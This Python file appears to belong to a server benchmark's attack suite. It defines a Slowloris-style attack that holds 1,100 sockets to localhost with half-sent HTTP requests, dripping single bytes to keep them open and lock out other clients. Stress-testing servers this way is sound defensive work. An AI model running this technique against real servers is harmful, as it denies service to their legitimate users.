"""Requests that are never finished."""

from __future__ import annotations

import asyncio
from contextlib import suppress

from bench.attacks.attack import Attack
from bench.attacks.wire import connect, drop

SOCKETS = 1_100
BEGINNINGS = (
    b"GET /api/tables HTTP/1.1\r\nhost: 127.0.0.1\r\nx-slow: ",
    b"GET /api/tables HT",
    b"POST /api/tables HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{",
    b"",
)


class HalfSent(Attack):
    """1,100 sockets that never finish what they ask, half of them from one address, shut everybody out (point 2)."""

    name = "half-sent requests"
    point = "2"

    async def run(self) -> None:
        await self.together(*(self._hold(number) for number in range(SOCKETS)))

    async def _hold(self, number: int) -> None:
        address = self.address(0 if number % 2 else 1 + number // 2 % 20)
        await asyncio.sleep(number / 500)
        while True:
            try:
                reader, writer = await connect(self.port, address)
            except OSError:
                self.counts["not let in"] += 1
                await asyncio.sleep(2)
                continue
            self.counts["held"] += 1
            writer.write(BEGINNINGS[number % len(BEGINNINGS)])
            with suppress(OSError):
                await self._drip(reader, writer, number % len(BEGINNINGS) != 3)
            self.counts["ended by the server"] += 1
            drop(writer)
            await asyncio.sleep(2)

    async def _drip(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, drips: bool) -> None:
        """A byte every few seconds, until the other side has enough."""
        while not reader.at_eof():
            with suppress(TimeoutError):
                async with asyncio.timeout(3):
                    if await reader.read(1_000) == b"":
                        return
            if drips:
                writer.write(b"x")
